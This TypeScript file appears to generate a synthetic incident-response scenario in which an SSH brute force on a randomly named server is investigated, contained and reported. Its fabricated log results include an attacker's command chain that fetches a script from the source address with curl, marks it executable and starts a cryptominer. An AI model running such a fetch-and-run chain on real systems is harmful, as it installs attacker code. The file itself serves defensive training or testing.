import type { WriteScenario } from '../scenario.ts'

/** A brute-force attack on SSH that finds a password. */
export const sshBruteForce: WriteScenario = (random) => {
  const src = random.publicAddress()
  const host = random.pick(['bastion-02', 'build-runner-7', 'git-mirror', 'sftp-edge-1'])
  const ip = random.privateAddress()
  const user = random.pick(['deploy', 'backup', 'svc-ci', 'postgres'])
  const tries = random.integer(3_100, 9_800)
  const pid = random.integer(21_000, 39_000)
  const ticket = `INC-${random.integer(20_400, 29_900)}`
  return {
    slug: 'ssh-brute-force',
    language: 'en',
    name: `SSH brute force against ${host}`,
    alert: `${tries} failed SSH logins from ${src} to ${host} (${ip}) within 40 minutes, then one accepted for “${user}”.`,
    remark: `${host} is reachable from the internet because of the vendor access. Nobody should log in as ${user} at night.`,
    rounds: [
      {
        thought: `A success after ${tries} failures is a break-in until proven otherwise.\nFirst find out who ${src} is and what “${user}” did, then contain.`,
        work: [
          {
            task: `Look up the reputation of ${src}`,
            kind: 'query',
            action: 'Query threat intelligence for the source address',
            command: 'Look up IP reputation',
            playbook: 'ip_threat_intel',
            params: { src },
            result: {
              verdict: 'malicious',
              score: random.integer(88, 99),
              tags: ['ssh-scanner', 'bulletproof-hosting'],
              first_seen: '2026-09-30',
              reports: random.integer(210, 900),
            },
            reading: `**${src} is a known SSH scanner**\n\n- hosted at a bulletproof provider\n- reported by hundreds of sensors since September\n- no business relation found`,
          },
          {
            task: `Reconstruct the session of “${user}” on ${host}`,
            kind: 'query',
            action: 'Collect authentication and process logs of the host',
            command: 'Search host logs',
            playbook: 'siem_search',
            params: { host, user, window: '24h' },
            result: {
              accepted: { user, src, method: 'password', pid },
              processes: [`curl -s http://${src}/x.sh`, 'chmod +x /tmp/.x', '/tmp/.x -o stratum'],
              sudo: 'denied',
            },
            reading: `### Session of \`${user}\` (pid ${pid})\n\n1. login by **password**\n2. a script was fetched from ${src}\n3. \`/tmp/.x\` was started\n4. \`sudo\` was **denied**: no root`,
          },
        ],
        summary: `### Round 1\n\n- The source is a known scanner.\n- **The login succeeded** and a binary was started as \`${user}\`.\n- No sign of root so far.`,
        suggestion: `Isolate ${host}, block ${src} at the edge, disable the password of ${user}.`,
        question: `Is ${user} used anywhere else with the same password?`,
        answer: `The directory lists **three hosts** with a local account \`${user}\`. Two of them allow passwords over SSH. I suggest rotating all three before you isolate, so that the attacker cannot hop.`,
      },
      {
        thought:
          'Contain now: cut the host off, block the source, take the credentials out of use. Keep memory for forensics first.',
        work: [
          {
            task: `Isolate ${host}`,
            kind: 'write',
            action: 'Isolate the endpoint from the network',
            command: 'Isolate endpoint',
            playbook: 'edr_isolate',
            params: { host, keep_management: true },
            result: { isolated: true, at: 'switch port gi1/0/14', memory_image: `s3://forensics/${host}-${pid}.lime` },
            reading: `${host} is **isolated**; a memory image was taken before.`,
          },
          {
            task: `Block ${src} at the edge`,
            kind: 'write',
            action: 'Add the source to the block list of the firewalls',
            command: 'Block address',
            playbook: 'firewall_block',
            params: { src, hours: 720 },
            result: { error: 'edge-fw-2: commit failed, configuration locked by admin session' },
            reading: `**Only one of two firewalls took the rule.** \`edge-fw-2\` is locked by an open admin session; the rule is queued there.`,
          },
          {
            task: `Rotate the credentials of ${user}`,
            kind: 'write',
            action: 'Reset the password on all hosts and forbid passwords over SSH',
            command: 'Rotate credentials',
            playbook: 'rotate_local_account',
            params: { user, hosts: 3 },
            result: { rotated: 3, password_authentication: 'no' },
            reading: `All **three** accounts were rotated; SSH takes keys only.`,
          },
        ],
        summary:
          '### Round 2\n\n- Host isolated, memory kept.\n- Credentials rotated on three hosts.\n- **Open:** one firewall has not taken the block yet.',
        suggestion: 'Repeat the block on edge-fw-2 and look for the same binary elsewhere.',
        question: 'I have ended my session on edge-fw-2, try again please.',
        answer: 'Thanks. The lock is gone; the captain has the block on the list for the next round.',
      },
      {
        thought: 'Finish the block and make sure that nobody else has run the same binary.',
        work: [
          {
            task: 'Complete the block on edge-fw-2',
            kind: 'write',
            action: 'Commit the queued rule',
            command: 'Block address',
            playbook: 'firewall_block',
            params: { src, device: 'edge-fw-2' },
            result: { committed: true, rule: `deny ip host ${src} any` },
            reading: `The rule stands on **both** firewalls.`,
          },
          {
            task: 'Hunt for the binary on all servers',
            kind: 'query',
            action: 'Search all endpoints for the hash',
            command: 'Hunt by hash',
            playbook: 'edr_hunt',
            params: { sha256: random.hex(64) },
            result: { endpoints: 1_284, hits: 0 },
            reading: `**No hit** on 1,284 endpoints besides ${host}.`,
          },
          {
            task: 'Tell the owners',
            kind: 'notify',
            action: 'Inform platform team and vendor manager',
            command: 'Send notification',
            playbook: 'notify_owner',
            params: { ticket, channel: '#sec-incidents' },
            result: { delivered: 2, ticket },
            reading: `Both owners have the report in **${ticket}**.`,
          },
        ],
        summary: '### Round 3\n\n- Block complete.\n- No further host is affected.\n- Owners are informed.',
        suggestion: 'Rebuild the host from its image and put vendor access behind the VPN.',
        question: `Can ${host} go back into service as it is?`,
        answer: `No: rebuild it from the golden image. The attacker ran code there; without root we cannot be sure what is left in \`/home/${user}\`.`,
      },
    ],
    verdict: `The break-in is contained: source blocked, credentials rotated, ${host} isolated for a rebuild, no spread.`,
    closing: `## Report\n\n| | |\n| --- | --- |\n| Entry | password guessed for \`${user}\` |\n| Source | ${src} |\n| Effect | a miner ran for a few minutes, no root |\n| Spread | none |\n\n**Lessons:** keys only, vendor access behind the VPN, an alert at the *first* success after many failures.`,
  }
}
